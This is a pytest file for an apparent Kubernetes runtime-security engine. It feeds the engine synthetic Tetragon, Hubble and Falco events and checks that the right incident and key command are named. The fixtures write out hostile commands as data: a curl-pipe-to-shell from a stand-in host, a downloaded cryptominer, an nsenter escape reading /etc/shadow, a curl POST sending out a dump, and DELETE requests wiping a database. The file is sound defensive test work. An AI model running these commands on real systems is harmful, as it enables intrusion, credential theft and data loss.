"""Incidents the old cascade's tests (``tests/report/test_heuristics.py``) were built on, as
Tetragon / Hubble / Falco export lines, asked of the new engine (``case.findings()``): each asserts
the same answer (entry pod, node, key command; no incident on ordinary life)."""

from __future__ import annotations

import base64
import json

import pytest

import kernelsec_nb as kn

NODE = "worker-2"
POD = "shop-api-6f7d8c9b5-qwxyz"
CID = "9b1f3c7d2e4a" + "0" * 52


def _id(pid: int) -> str:
    return base64.b64encode(f"{NODE}:{pid * 1000}:{pid}".encode()).decode()


def _proc(pid: int, parent: int, binary: str, args: str, t: str, *, init: bool = True) -> dict:
    return {"exec_id": _id(pid), "pid": pid, "uid": 0, "cwd": "/app", "binary": binary, "arguments": args,
            "flags": "execve clone", "start_time": t, "parent_exec_id": _id(parent), "tid": pid,
            "in_init_tree": init, "docker": CID[:31],
            "pod": {"namespace": "shop", "name": POD, "workload": "shop-api",
                    "container": {"id": "containerd://" + CID, "name": "api"}, "pod_labels": {"app": "api"}},
            "cap": {"effective": ["CAP_NET_RAW"]}}


def _exec(pid: int, parent: dict, binary: str, args: str, t: str) -> str:
    proc = _proc(pid, parent["pid"], binary, args, t)
    return json.dumps({"process_exec": {"process": proc, "parent": parent}, "node_name": NODE, "time": t})


def _connect(proc: dict, parent: dict, sport: int, daddr: str, dport: int, t: str) -> str:
    sock = {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP", "saddr": "10.0.2.7",
            "daddr": daddr, "sport": sport, "dport": dport}
    return json.dumps({"process_kprobe": {"process": proc, "parent": parent, "function_name": "tcp_connect",
                                          "args": [{"sock_arg": sock}], "action": "KPROBE_ACTION_POST"},
                       "node_name": NODE, "time": t})


def _flow(sport: int, daddr: str, dport: int, verdict: str, t: str) -> str:
    flow = {"time": t, "verdict": verdict, "IP": {"source": "10.0.2.7", "destination": daddr, "ipVersion": "IPv4"},
            "l4": {"TCP": {"source_port": sport, "destination_port": dport, "flags": {"SYN": True}}},
            "source": {"namespace": "shop", "pod_name": POD, "labels": ["k8s:app=api"]},
            "destination": {"labels": ["reserved:world"]}, "Type": "L3_L4", "node_name": NODE,
            "traffic_direction": "EGRESS", "is_reply": False}
    if verdict == "DROPPED":
        flow |= {"drop_reason_desc": "POLICY_DENIED"}
    return json.dumps({"flow": flow, "node_name": NODE, "time": t})


def _lines() -> list[str]:
    server = _proc(10, 1, "/usr/local/bin/python3", "app.py", "2026-03-01T08:00:00Z")  # started before
    parent_of = {k: server[k] for k in ("exec_id", "pid", "binary", "arguments", "start_time", "flags")}
    sh = _proc(20, 10, "/bin/sh", "-c 'cd /tmp && curl -s http://203.0.113.9/x | sh'", "2026-03-01T10:00:00Z")
    sh_ref = {k: sh[k] for k in ("exec_id", "pid", "binary", "arguments", "start_time", "flags")}
    miner = _proc(30, 20, "/tmp/.x/kworker", "-o pool.example:3333", "2026-03-01T10:00:02Z")
    health = _proc(40, 10, "/bin/sh", "-c 'wget -q -O- localhost:8080/health'", "2026-03-01T09:30:00Z")
    lines = [
        _connect(server, {"exec_id": _id(1)}, 8080, "10.0.9.9", 5432, "2026-03-01T09:00:00Z"),
        _exec(40, parent_of, health["binary"], health["arguments"], health["start_time"]),  # routine
        _exec(20, parent_of, sh["binary"], sh["arguments"], sh["start_time"]),
        _exec(21, sh_ref, "/usr/bin/curl", "-s http://203.0.113.9/x", "2026-03-01T10:00:00.5Z"),
        _connect(_proc(21, 20, "/usr/bin/curl", "-s http://203.0.113.9/x", "2026-03-01T10:00:00.5Z"), sh_ref,
                 39000, "203.0.113.9", 80, "2026-03-01T10:00:00.6Z"),
        _flow(39000, "203.0.113.9", 80, "FORWARDED", "2026-03-01T10:00:00.601Z"),
        _exec(30, sh_ref, miner["binary"], miner["arguments"], miner["start_time"]),
        _connect(miner, sh_ref, 39001, "198.51.100.7", 3333, "2026-03-01T10:00:03Z"),
        _flow(39001, "198.51.100.7", 3333, "DROPPED", "2026-03-01T10:00:03.001Z"),
        json.dumps({"hostname": NODE, "output": "Drop and execute new binary", "priority": "Critical",
                    "rule": "Drop and execute new binary in container", "source": "syscall", "tags": [],
                    "time": "2026-03-01T10:00:02.1Z",
                    "output_fields": {"container.id": CID[:12], "proc.pid": 30, "proc.name": "kworker",
                                      "proc.exepath": "/tmp/.x/kworker", "k8s.pod.name": POD,
                                      "k8s.ns.name": "shop"}}),
    ]
    return lines


def _case(tmp, lines: list[str]) -> kn.Case:
    (tmp / "capture.json").write_text("\n".join(lines) + "\n")
    c = kn.open_case(tmp / "case.duckdb")
    report = c.load(tmp / "capture.json", progress=False)
    assert report.total("quarantined") == 0
    return c


SHIM = {"exec_id": _id(2), "pid": 2, "binary": "/usr/bin/containerd-shim-runc-v2", "arguments": "-id x"}


def _ref(p: dict) -> dict:
    return {k: p[k] for k in ("exec_id", "pid", "binary", "arguments", "start_time", "flags")}


def _run(pid: int, parent: dict, binary: str, args: str, t: str, *, init: bool = False) -> tuple[dict, str]:
    p = _proc(pid, parent["pid"], binary, args, t, init=init)
    return p, json.dumps({"process_exec": {"process": p, "parent": parent}, "node_name": NODE, "time": t})


def _sighting(sport: int, daddr: str, dport: int, verdict: str, t: str, node: str = NODE, dst_pod: str | None = None,
              method: str | None = None) -> str:
    line = json.loads(_flow(sport, daddr, dport, verdict, t))
    f = line["flow"]
    f["node_name"] = line["node_name"] = node
    f["traffic_direction"] = "EGRESS" if node == NODE else "INGRESS"
    if dst_pod:
        f["destination"] = {"namespace": "shop", "pod_name": dst_pod, "labels": ["k8s:app=db"]}
    if method:
        f |= {"Type": "L7", "l7": {"type": "REQUEST", "http": {"method": method, "url": f"http://{daddr}/v1/all"}}}
    return json.dumps(line)



def _alert(pid: int, rule: str, t: str) -> str:
    return json.dumps({"hostname": NODE, "output": rule, "priority": "Warning", "rule": rule, "source": "syscall",
                       "tags": [], "time": t, "output_fields": {"container.id": CID[:12], "proc.pid": pid,
                                                                "k8s.pod.name": POD, "k8s.ns.name": "shop"}})


def _in_pod(line: str, pod: str, cid: str) -> str:
    """An exec line of :func:`_run` moved to another pod and container (same workload)."""
    ev = json.loads(line)
    proc = ev["process_exec"]["process"]
    proc["pod"] = {**proc["pod"], "name": pod, "container": {"id": "containerd://" + cid * 64, "name": "api"}}
    proc["docker"] = (cid * 31)[:31]
    return json.dumps(ev)


def _critical(pid: int, rule: str, t: str, cid: str = CID[:12]) -> str:
    line = json.loads(_alert(pid, rule, t))
    line["priority"] = "Critical"
    line["output_fields"]["container.id"] = cid
    return json.dumps(line)



def _findings(tmp, lines: list[str]) -> kn.Findings:
    with _case(tmp, lines) as c:
        return c.findings()


def test_rce_the_shell_a_service_started_is_the_incident_and_the_payload_its_key_command(tmp_path):
    f = _findings(tmp_path, _lines())
    assert len(f.incidents) == 1
    i = f.incidents[0]
    assert (i.namespace, i.pod, i.node) == ("shop", POD, NODE)
    assert i.entry is not None and i.entry.exec_id == _id(20)
    assert i.key_command is not None
    assert (i.key_command.binary, i.key_command.args) == ("/tmp/.x/kworker", "-o pool.example:3333")
    assert i.chain == [_id(20), _id(30)]
    assert _id(40) not in i.chain  # the routine health check


def test_rce_without_process_events_the_alerts_and_drops_name_the_pod_as_a_lead(tmp_path):
    lines = [line.replace('"proc.name": "kworker"', '"proc.name": "kworker", "proc.cmdline": "kworker -o pool.example:3333"')
             for line in _lines() if '"process_' not in line[:20]]
    f = _findings(tmp_path, lines)
    assert f.incidents == []  # no process: no key command
    assert {(x.namespace, x.pod, x.node) for x in f.leads} == {("shop", POD, NODE)}


@pytest.mark.parametrize("schema", ["new", "old"])
def test_an_escape_through_nsenter_is_an_exec_incident(tmp_path, schema):
    def proc(pid, parent, binary, args, t, init):
        p = _proc(pid, parent, binary, args, t, init=init)
        if schema == "old":
            del p["in_init_tree"]
        return p

    def ref(p):
        return {k: p[k] for k in ("exec_id", "pid", "binary", "arguments", "start_time", "flags")}

    shim = {"exec_id": _id(2), "pid": 2, "binary": "/usr/bin/containerd-shim-runc-v2", "arguments": "-id x"}
    agent = proc(5, 2, "/usr/bin/agent", "--run", "2026-03-01T08:00:00Z", True)
    sh = proc(50, 2, "/bin/sh", "", "2026-03-01T10:00:00Z", False)
    nsenter = proc(51, 50, "/usr/bin/nsenter", "-t 1 -m -u -i -n -- /bin/bash", "2026-03-01T10:00:01Z", False)
    bash = proc(52, 51, "/bin/bash", "", "2026-03-01T10:00:02Z", False)
    cat = proc(53, 52, "/bin/cat", "/etc/shadow", "2026-03-01T10:00:03Z", False)
    lines = [json.dumps({"process_exec": {"process": agent, "parent": shim}, "node_name": NODE, "time": agent["start_time"]})]
    for p, parent in ((sh, shim), (nsenter, ref(sh)), (bash, ref(nsenter)), (cat, ref(bash))):
        lines.append(json.dumps({"process_exec": {"process": p, "parent": parent}, "node_name": NODE, "time": p["start_time"]}))
    lines.append(json.dumps({"process_kprobe": {"process": cat, "parent": ref(bash), "function_name": "security_file_open",
                                                "args": [{"file_arg": {"path": "/etc/shadow"}}]},
                             "node_name": NODE, "time": "2026-03-01T10:00:03.1Z"}))
    f = _findings(tmp_path, lines)
    assert len(f.incidents) == 1
    i = f.incidents[0]
    assert (i.pod, i.node) == (POD, NODE) and i.entry is not None and i.entry.exec_id == _id(50)
    assert i.key_command is not None and i.key_command.binary == "/usr/bin/nsenter"


def test_ordinary_life_is_not_an_incident(tmp_path):
    def exec_line(pid, parent, binary, args, t, init):
        p = _proc(pid, parent["pid"], binary, args, t, init=init)
        return p, json.dumps({"process_exec": {"process": p, "parent": parent}, "node_name": NODE, "time": t})

    shim = {"exec_id": _id(2), "pid": 2, "binary": "/usr/bin/containerd-shim-runc-v2"}
    agent, a = exec_line(5, shim, "/opt/agent/bin/agent", "run", "2026-03-01T08:00:00Z", True)
    sh, b = exec_line(50, shim, "/bin/sh", "", "2026-03-01T09:00:00Z", False)
    ls, c = exec_line(51, {"exec_id": sh["exec_id"], "pid": 50, "binary": "/bin/sh"}, "/bin/ls", "/etc",
                      "2026-03-01T09:00:01Z", False)
    runner, d = exec_line(60, agent, "/usr/bin/go", "test ./...", "2026-03-01T09:10:00Z", True)
    test, e = exec_line(61, {"exec_id": runner["exec_id"], "pid": 60, "binary": "/usr/bin/go"},
                        "/tmp/go-build123/b001/app.test", "-test.v", "2026-03-01T09:10:05Z", True)
    noise = json.dumps({"hostname": NODE, "output": "Sensitive file opened", "priority": "Warning",
                        "rule": "Read sensitive file untrusted", "source": "syscall", "tags": [],
                        "time": "2026-03-01T08:30:00Z",
                        "output_fields": {"container.id": CID[:12], "proc.pid": 5, "proc.name": "agent",
                                          "k8s.pod.name": POD, "k8s.ns.name": "shop"}})
    assert _findings(tmp_path, [a, b, c, d, e, noise]).incidents == []


def test_a_rogue_containers_main_process_is_the_incident_and_its_own_key_command(tmp_path):
    miner, a = _run(10, SHIM, "/usr/local/bin/metrics-helper", "--pool stratum+tcp://pool.example:4444",
                    "2026-03-01T08:00:00Z", init=True)
    _, b = _run(11, _ref(miner), "/bin/sh", "-c nproc", "2026-03-01T08:00:01Z", init=True)
    lines = [a, b, _critical(10, "Detect outbound connections to common miner pool ports", "2026-03-01T08:00:02Z"),
             _connect(miner, SHIM, 40000, "45.9.148.108", 4444, "2026-03-01T08:00:02Z")]
    f = _findings(tmp_path, lines)
    assert len(f.incidents) == 1
    i = f.incidents[0]
    assert i.pod == POD and i.key_command is not None
    assert (i.key_command.binary, i.key_command.args) == ("/usr/local/bin/metrics-helper",
                                                          "--pool stratum+tcp://pool.example:4444")


def test_the_exfiltration_out_of_the_cluster_is_key_not_the_scan_a_node_dropped(tmp_path):
    sh, a = _run(50, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
    scan, b = _run(51, _ref(sh), "/tmp/.x/pscan", "10.0.5.5", "2026-03-01T10:00:01Z")
    curl, c = _run(52, _ref(sh), "/usr/bin/curl", "-X POST --data-binary @dump https://203.0.113.50/up",
                   "2026-03-01T10:00:05Z")
    lines = [a, b, c,
             _connect(scan, _ref(sh), 40001, "10.0.5.5", 22, "2026-03-01T10:00:01.1Z"),
             _sighting(40001, "10.0.5.5", 22, "FORWARDED", "2026-03-01T10:00:01.101Z", dst_pod="db-0"),
             _sighting(40001, "10.0.5.5", 22, "DROPPED", "2026-03-01T10:00:01.102Z", node="worker-9", dst_pod="db-0"),
             _connect(curl, _ref(sh), 40002, "203.0.113.50", 443, "2026-03-01T10:00:05.1Z"),
             _sighting(40002, "203.0.113.50", 443, "FORWARDED", "2026-03-01T10:00:05.101Z")]
    f = _findings(tmp_path, lines)
    assert len(f.incidents) == 1
    i = f.incidents[0]
    assert (i.pod, i.node) == (POD, NODE)
    assert i.key_command is not None and i.key_command.exec_id == _id(52)
    assert "203.0.113.50" in {e.ip for e in i.endpoints}


def test_a_payload_a_service_started_is_found_from_its_hooks_alone(tmp_path):
    server, a = _run(10, {"exec_id": _id(1), "pid": 1}, "/usr/local/bin/python3", "-m jupyter", "2026-03-01T08:00:00Z",
                     init=True)
    sh, b = _run(20, _ref(server), "/bin/sh", "-c 'curl -so /tmp/.x/kworker http://198.51.100.23/k; /tmp/.x/kworker'",
                 "2026-03-01T10:00:00Z", init=True)
    payload, c = _run(21, _ref(sh), "/tmp/.x/kworker", "", "2026-03-01T10:00:02Z", init=True)
    pip_sh, d = _run(30, _ref(server), "/bin/sh", "-c 'pip install xgboost'", "2026-03-01T09:00:00Z", init=True)
    _, e = _run(31, _ref(pip_sh), "/tmp/pip-build-env-1/bin/ninja", "-C build", "2026-03-01T09:00:05Z", init=True)
    shadow = json.dumps({"process_kprobe": {"process": payload, "parent": _ref(sh), "function_name": "security_file_permission",
                                            "args": [{"file_arg": {"path": "/etc/shadow"}}, {"int_arg": 4}]},
                         "node_name": NODE, "time": "2026-03-01T10:00:02.5Z"})
    lines = [a, b, c, d, e, shadow, _connect(payload, _ref(sh), 42000, "198.51.100.23", 443, "2026-03-01T10:00:03Z")]
    f = _findings(tmp_path, lines)
    assert len(f.incidents) == 1
    i = f.incidents[0]
    assert i.pod == POD and i.key_command is not None and i.key_command.binary == "/tmp/.x/kworker"
    assert i.chain == [_id(20), _id(21)]


def _put_sightings(sport: int, t: str) -> list[str]:
    return [_sighting(sport, "10.0.5.5", 80, "FORWARDED", t, dst_pod="db-0", method="PUT"),
            _sighting(sport, "10.0.5.5", 80, "FORWARDED", t[:-2] + "5Z", node="worker-9", dst_pod="db-0", method="PUT")]


def test_a_kill_that_killed_nothing_is_not_key(tmp_path):
    sh, a = _run(50, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
    curl, b = _run(51, _ref(sh), "/usr/bin/curl", "-X PUT http://db/x", "2026-03-01T10:00:01Z")
    _, c = _run(52, _ref(sh), "/bin/kill", "-9 1", "2026-03-01T10:00:09Z")  # pid 1 of a container ignores it
    lines = [a, b, c, _connect(curl, _ref(sh), 41001, "10.0.5.5", 80, "2026-03-01T10:00:01.1Z"),
             *_put_sightings(41001, "2026-03-01T10:00:01.101Z")]
    f = _findings(tmp_path, lines)
    assert len(f.incidents) <= 1
    keys = [(i.key_command.binary, i.key_command.args) for i in f.incidents if i.key_command]
    leads = [x for lead in f.leads for x in lead.exec_ids]
    # named: as the incident's key command, or (one kind of act, no detection) as a lead's process
    assert keys == [("/usr/bin/curl", "-X PUT http://db/x")] or (not keys and _id(51) in leads)
def test_a_way_around_a_policy_is_key_and_the_one_off_exec_is_the_entry(tmp_path):
    admin, a = _run(60, SHIM, "/bin/sh", "", "2026-03-01T09:00:00Z")
    _, b = _run(61, _ref(admin), "/bin/ls", "/etc", "2026-03-01T09:00:01Z")
    one, c = _run(70, SHIM, "/bin/bash", "-c 'wget --method=DELETE http://db/v1/all; curl -X DELETE db:8081/v1/all'",
                  "2026-03-01T10:00:00Z")
    wget, d = _run(71, _ref(one), "/usr/bin/wget", "--method=DELETE http://db/v1/all", "2026-03-01T10:00:00.1Z")
    curl, e = _run(72, _ref(one), "/usr/bin/curl", "-X DELETE db:8081/v1/all", "2026-03-01T10:00:01Z")
    lines = [a, b, c, d, e,
             _connect(wget, _ref(one), 41001, "10.0.5.5", 80, "2026-03-01T10:00:00.2Z"),
             _sighting(41001, "10.0.5.5", 80, "DROPPED", "2026-03-01T10:00:00.201Z", dst_pod="db-0", method="DELETE"),
             _connect(curl, _ref(one), 41002, "10.0.5.5", 8081, "2026-03-01T10:00:01.1Z"),
             _sighting(41002, "10.0.5.5", 8081, "FORWARDED", "2026-03-01T10:00:01.101Z", dst_pod="db-0")]
    f = _findings(tmp_path, lines)
    assert len(f.incidents) == 1
    i = f.incidents[0]
    assert i.entry is not None and i.entry.exec_id == _id(70)
    assert i.key_command is not None and (i.key_command.binary, i.key_command.args) == (
        "/usr/bin/curl", "-X DELETE db:8081/v1/all")
    assert _id(60) not in i.chain


def _alert_on(pid: int, rule: str, priority: str, t: str) -> str:
    return json.dumps({"hostname": NODE, "output": rule, "priority": priority, "rule": rule, "source": "syscall",
                       "tags": [], "time": t, "output_fields": {"container.id": CID[:12], "proc.pid": pid,
                                                                "k8s.pod.name": POD, "k8s.ns.name": "shop"}})



def test_a_kill_without_a_signal_flag_that_killed_is_key(tmp_path):
    sh, a = _run(50, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
    curl, b = _run(51, _ref(sh), "/usr/bin/curl", "-X PUT http://db/x", "2026-03-01T10:00:01Z")
    _, c = _run(52, _ref(sh), "/usr/bin/pkill", "nginx", "2026-03-01T10:00:09Z")
    victim, d = _run(40, SHIM, "/usr/sbin/nginx", "-g daemon off;", "2026-03-01T08:00:00Z", init=True)
    death = json.dumps({"process_exit": {"process": victim, "parent": SHIM, "signal": "SIGTERM"},
                        "node_name": NODE, "time": "2026-03-01T10:00:09.2Z"})
    f = _findings(tmp_path, [a, b, c, d, death, _connect(curl, _ref(sh), 41001, "10.0.5.5", 80, "2026-03-01T10:00:01.1Z"),
                             *_put_sightings(41001, "2026-03-01T10:00:01.101Z")])
    assert len(f.incidents) == 1 and f.incidents[0].key_command is not None
    assert (f.incidents[0].key_command.binary, f.incidents[0].key_command.args) == ("/usr/bin/pkill", "nginx")


def test_the_same_request_getting_through_after_a_policy_fix_is_no_way_around_it(tmp_path):
    sh, a = _run(50, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
    first, b = _run(51, _ref(sh), "/usr/bin/curl", "-sv http://db:8080/v1/health", "2026-03-01T10:00:05Z")
    again, c = _run(52, _ref(sh), "/usr/bin/curl", "-sv http://db:8080/v1/health", "2026-03-01T10:09:00Z")
    lines = [a, b, c, _connect(first, _ref(sh), 41001, "10.0.5.5", 8080, "2026-03-01T10:00:05.1Z"),
             _sighting(41001, "10.0.5.5", 8080, "DROPPED", "2026-03-01T10:00:05.101Z", dst_pod="db-0"),
             _connect(again, _ref(sh), 41002, "10.0.5.5", 8080, "2026-03-01T10:09:00.1Z"),
             _sighting(41002, "10.0.5.5", 8080, "FORWARDED", "2026-03-01T10:09:00.101Z", dst_pod="db-0", method="GET")]
    f = _findings(tmp_path, lines)
    # no way around a policy (the old cascade's "reached": where it had an effect)
    assert not any("got through" in w for x in [*f.incidents, *f.leads] for w in x.why)


def test_a_debug_priority_alert_is_no_alarm(tmp_path):
    server = {"exec_id": _id(10), "pid": 10, "binary": "/usr/bin/node", "arguments": "server.js"}
    _, a = _run(20, server, "/bin/sh", "-c 'convert /tmp/up-1.png /tmp/th-1.png'", "2026-03-01T10:00:00Z", init=True)
    f = _findings(tmp_path, [a, _alert_on(20, "Run shell untrusted", "Debug", "2026-03-01T10:00:00.1Z")])
    assert f.incidents == []


def test_a_destination_the_policy_also_refused_to_the_app_itself_is_no_incident(tmp_path):
    app, a = _run(10, SHIM, "/app/orders-api", "--port 8080", "2026-03-01T08:00:00Z", init=True)
    sh, b = _run(50, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
    curl, c = _run(51, _ref(sh), "/usr/bin/curl", "-sv http://payments:8080/v1/health", "2026-03-01T10:00:05Z")
    lines = [a, b, c, _connect(app, SHIM, 40100, "10.0.5.5", 8080, "2026-03-01T10:00:01Z"),
             _sighting(40100, "10.0.5.5", 8080, "DROPPED", "2026-03-01T10:00:01.001Z", dst_pod="payments-0"),
             _connect(curl, _ref(sh), 40101, "10.0.5.5", 8080, "2026-03-01T10:00:05.1Z"),
             _sighting(40101, "10.0.5.5", 8080, "DROPPED", "2026-03-01T10:00:05.101Z", dst_pod="payments-0")]
    f = _findings(tmp_path, lines)
    assert f.incidents == []  # the SRE's shell was refused like the app itself: no key command
